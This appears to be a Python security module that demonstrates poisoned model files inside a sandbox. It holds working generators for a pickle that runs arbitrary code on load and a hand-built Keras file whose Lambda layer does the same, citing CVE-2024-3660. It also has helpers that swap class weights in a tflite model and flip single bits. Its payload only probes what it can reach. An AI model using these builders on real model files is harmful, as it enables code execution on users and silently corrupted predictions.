"""Poisoned model files: what a file may do to whoever loads it, and to whoever is served by it.

Reading order: `Seen` and `payload` (code that only tells what it could reach), `poisoned_pickle`
and `poisoned_keras` (files that carry it), `opened` (loads one in the sandbox, nowhere else),
`swapped` and `flipped` (a `.tflite` has no code, but its weights decide what is answered).
Nothing in this module runs a payload outside of the sandbox.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from datahall.errors import ParameterError
from datahall.serving import sandbox
from datahall.serving.jail import ROOM

MARK = "ran.json"  # what the payload writes: it proves that code has run
KINDS = ("pickle", "keras", "keras unsafe")
_NAMES = {"pickle": "model.pkl", "keras": "model.keras", "keras unsafe": "model.keras"}
_RAN, _REFUSED = "ran by {}", "refused by {}"


@dataclass(frozen=True)
class Opened:
    """What came of loading a file in the sandbox.

    Attributes:
        kind: How it was loaded.
        ran: Whether the code in it has run.
        refused: The first line of the error with which the loader refused; empty if it did not.
        reached: What the code could reach: user number, whether a connection could be opened, and
            the folders that it saw.
    """

    kind: str
    ran: bool
    refused: str
    reached: dict[str, Any]


def payload(port: int) -> str:
    """Return Python code that writes down what it can reach, and does nothing else.

    Args:
        port: A port on loopback that somebody listens on, to try.
    """
    return f"""
import json, os, socket
seen = {{"user": os.getuid(), "folders": sorted(os.listdir("/"))}}
try:
    socket.create_connection(("127.0.0.1", {port:d}), timeout=2).close()
    seen["network"] = True
except OSError:
    seen["network"] = False
with open({MARK!r}, "w") as file:
    json.dump(seen, file)
"""


def poisoned_pickle(code: str) -> bytes:
    """Return a pickle that runs code when it is loaded; it is not loaded here.

    Args:
        code: Python code.

    Source:
        Python's documentation of `pickle`, on `object.__reduce__`.
    """

    class Carrier:
        def __reduce__(self) -> tuple[Any, ...]:
            return exec, (code, {})

    return pickle.dumps(Carrier())


def poisoned_keras(code: str) -> bytes:
    """Return a `.keras` file whose Lambda layer runs code when it is called, so at loading.

    It is written by hand, as an attacker would: Keras itself would run the code at saving.

    Args:
        code: Python code, of the interpreter that runs this.

    Source:
        CVE-2024-3660: Lambda layers of Keras run code that the file carries.
    """
    import h5py  # type: ignore[import-untyped]

    room: dict[str, Any] = {}
    exec(f"def carried(x):\n    exec({code!r}, {{}})\n    return x", room)  # noqa: S102 (defines)
    carried = base64.b64encode(marshal.dumps(room["carried"].__code__)).decode()
    function = {
        "class_name": "__lambda__",
        "config": {"code": carried, "defaults": None, "closure": None},
    }
    parts = [
        _layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "pixels"}),
        _layer("Lambda", {"name": "harmless", "function": function}),
    ]
    whole = _layer("Sequential", {"name": "harmless", "layers": parts}) | {
        "build_config": {"input_shape": [None, 4]}
    }
    made, weights = io.BytesIO(), io.BytesIO()
    h5py.File(weights, "w").close()  # it has none
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("config.json", json.dumps(whole))
        file.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        file.writestr("model.weights.h5", weights.getvalue())
    return made.getvalue()


def _layer(name: str, config: dict[str, Any]) -> dict[str, Any]:
    module = "keras" if name == "Sequential" else "keras.layers"
    return {"module": module, "class_name": name, "config": config, "registered_name": None}


def opened(content: bytes, *kinds: str) -> list[Opened]:
    """Load a file in the sandbox, in one way after the other, and return what happened.

    Args:
        content: The file.
        kinds: "pickle"; "keras" (Keras as it is); "keras unsafe" (`safe_mode=False`).

    Raises:
        ParameterError: There is no such kind.
        SandboxError: There is no sandbox here; nothing was loaded.
    """
    if unknown := set(kinds) - set(KINDS):
        raise ParameterError(f"kinds has {sorted(unknown)}. Expected some of {', '.join(KINDS)}.")
    files = {_NAMES[kind]: content for kind in kinds}
    ended = sandbox.run("datahall.serving.poison", *kinds, files=files)
    found = []
    for kind in kinds:
        mark, why = (ended.files.get(name.format(kind)) for name in (_RAN, _REFUSED))
        reached = json.loads(mark) if mark else {}
        found.append(Opened(kind, mark is not None, (why or b"").decode(), reached))
    return found


def swapped(tflite: bytes, one: int, other: int) -> bytes:
    """Return a `.tflite` file that calls one class by the other's name; it is valid otherwise.

    Args:
        tflite: An int8 file whose last layer with weights gives the classes.
        one: A class.
        other: The class it is swapped with.
    """
    import flatbuffers
    from ai_edge_litert import schema_py_generated as schema

    model = schema.ModelT.InitFromPackedBuf(tflite, 0)
    graph = model.subgraphs[0]
    last = [each for each in graph.operators if _has_weights(graph, each)][-1]
    for index in last.inputs[1:]:
        tensor = graph.tensors[index]
        kind = np.int32 if tensor.type == schema.TensorType.INT32 else np.int8
        rows = model.buffers[tensor.buffer].data.view(kind).reshape(tensor.shape).copy()
        rows[[one, other]] = rows[[other, one]]
        model.buffers[tensor.buffer].data = rows.view(np.uint8).ravel()
        scales = np.array(tensor.quantization.scale)
        if len(scales) > 1:
            scales[[one, other]] = scales[[other, one]]
            tensor.quantization.scale = scales
    builder = flatbuffers.Builder(len(tflite))
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())


def _has_weights(graph: Any, operator: Any) -> bool:
    """Tell whether an operator has a kernel and a bias."""
    return len(operator.inputs) == 3 and len(graph.tensors[operator.inputs[1]].shape) > 1


def flipped(content: bytes, bit: int) -> bytes:
    """Return a file with one bit turned round.

    Args:
        content: The file.
        bit: Which, from 0.

    Example:
        >>> list(flipped(bytes([0, 0]), 9))
        [0, 2]
    """
    changed = bytearray(content)
    changed[bit // 8] ^= 1 << bit % 8
    return bytes(changed)


def _load(kind: str) -> None:
    """Load a file, and write down what happened; called in the sandbox only."""
    name = _NAMES[kind]
    try:
        if kind == "pickle":
            pickle.loads(Path(name).read_bytes())  # noqa: S301 (what the sandbox is for)
        else:
            import keras

            keras.models.load_model(name, safe_mode=kind == "keras", compile=False)
    except Exception as error:
        line = str(error).strip().partition(".")[0]
        Path(_REFUSED.format(kind)).write_text(f"{type(error).__name__}: {line}"[:200])
    if Path(MARK).exists():
        Path(MARK).rename(_RAN.format(kind))


if __name__ == "__main__":
    if Path.cwd() != Path(ROOM):
        sys.exit("This is run in the sandbox only: use opened().")
    for each in sys.argv[1:]:
        _load(each)
